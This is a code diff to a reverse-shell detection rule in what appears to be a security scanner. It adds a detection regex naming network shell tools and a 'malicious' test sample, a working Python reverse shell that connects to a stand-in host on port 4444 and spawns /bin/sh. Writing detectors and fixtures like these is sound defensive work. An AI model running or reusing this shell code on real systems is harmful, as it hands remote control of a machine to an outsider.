@@ -9,6 +9,7 @@ from wheelmark.scan.facts import Act, Call, Facts
 from wheelmark.scan.report import Severity, Tactic
 from wheelmark.scan.rule import Evidence, Rule
 from wheelmark.scan.rules._common import graded, shown
+from wheelmark.scan.samples import Sample, Samples
 
 _SHELL_TEXT = re.compile(
     r"(?i)(/dev/tcp/|\bn(c|cat)\b[^|;&]*\s-(e|c)\b|mkfifo\s[^;]*;.*\bnc\b|Net\.Sockets\.TCPClient|\bsocat\b.*exec:|bash\s+-i\s*>&)"
@@ -46,4 +47,44 @@ RULE = Rule(
     message="A shell is connected to a machine elsewhere, which then controls this one.",
     reference="https://attack.mitre.org/techniques/T1059/004/",
     check=check,
+    samples=Samples(
+        malicious=(
+            Sample.imported("""
+                import os
+                import pty
+                import socket
+
+
+                def _serve():
+                    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                    link.connect(("shell.example.invalid", 4444))
+                    for descriptor in (0, 1, 2):
+                        os.dup2(link.fileno(), descriptor)
+                    pty.spawn("/bin/sh")
+
+
+                _serve()
+            """),
+        ),
+        benign=(
+            Sample.imported("""
+                import os
+                import socket
+                import subprocess
+
+
+                def is_open(host, port):
+                    with socket.socket() as link:
+                        return link.connect_ex((host, port)) == 0
+
+
+                def shell():
+                    subprocess.run(["/bin/sh"], check=False)
+
+
+                def redirect(descriptor):
+                    os.dup2(descriptor, 1)
+            """),
+        ),
+    ),
 )
